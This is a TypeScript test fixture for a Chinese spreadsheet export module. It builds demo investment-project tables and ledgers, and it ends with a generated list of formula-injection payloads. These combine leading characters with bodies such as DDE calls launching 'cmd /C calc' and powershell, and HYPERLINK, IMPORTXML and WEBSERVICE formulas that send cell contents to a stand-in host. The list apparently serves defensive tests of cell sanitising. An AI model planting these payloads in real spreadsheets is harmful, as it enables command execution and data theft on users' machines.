import { sheets } from '../../src/contract/words/zh-CN/sheets.ts';
import { type FourTables, fourTablesBook, type TableRow } from '../../src/documents/four-tables.ts';
import type { LedgerSheet } from '../../src/documents/ledger-sheet.ts';
import type { Book } from '../../src/documents/sheet.ts';
import { day } from '../../src/domain/day.ts';

export const AS_OF = day('2018-06-15');

const unit: FourTables['unit'] = { zeros: 4, nameOf: (currency) => (currency === 'USD' ? '万美元' : '万元') };
const printed: FourTables['printed'] = {
  note: { left: '数据截至 2018-06-15', right: '单位：万元' },
  foot: ['数据截至 2018-06-15', '依据：演示制度 WH-2.1', `日志：第 7 条，SM3 ${'ab'.repeat(32)}`],
  page: { left: '数据截至 2018-06-15', right: '第 &P 页，共 &N 页' },
};

export const aRow = (more: Partial<TableRow> = {}): TableRow => ({
  name: '演示项目',
  investor: null,
  content: null,
  amount: null,
  unit: null,
  person: null,
  projectUnit: null,
  start: null,
  completion: null,
  preliminary: null,
  stage: '签约',
  light: { text: '✓ 绿灯', tone: 'green' },
  remark: null,
  ...more,
});

/** A book of one table with these rows. */
export const aTable = (rows: readonly TableRow[]): Book =>
  fourTablesBook({
    title: '演示四张表',
    asOf: AS_OF,
    words: sheets.fourTables,
    unit,
    printed,
    tables: [{ name: '续建项目计划表', title: '招商引资续建项目计划表', rows }],
  });

export const aLedger = (more: Pick<LedgerSheet, 'columns' | 'rows'>): LedgerSheet => ({
  title: '演示台账',
  name: '台账',
  asOf: AS_OF,
  unit,
  total: '合计（{n} 个项目）',
  printed,
  frozen: 1,
  ...more,
});

/** What an attacker, or an unlucky name, may start with, and what may follow. */
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '　=',
  '"=',
  "'=",
  '\u200b=',
  '\ufeff=',
  '=-',
];
const BODIES = [
  '1+1',
  "2+5+cmd|' /C calc'!A0",
  'HYPERLINK("http://example.test/?"&A1,"查看")',
  'SUM(A1:A9)',
  'IMPORTXML(CONCAT("http://example.test/",A1),"//a")',
  'WEBSERVICE("http://example.test/")',
  'DDE("cmd";"/C calc";"x")',
  "cmd|'/C powershell'!_xlbgnm.A1",
  "@SUM(1,1)*cmd|' /C calc'!A0",
  'A1',
  '{1,2;3,4}',
  '"a"&"b"',
  'INDIRECT("A1")',
  'RAND()',
  'T("演示")',
  '1,"2"\r\n=3',
  '_x003D_1+1',
];
export const PAYLOADS = STARTS.flatMap((start) => BODIES.map((body) => start + body));
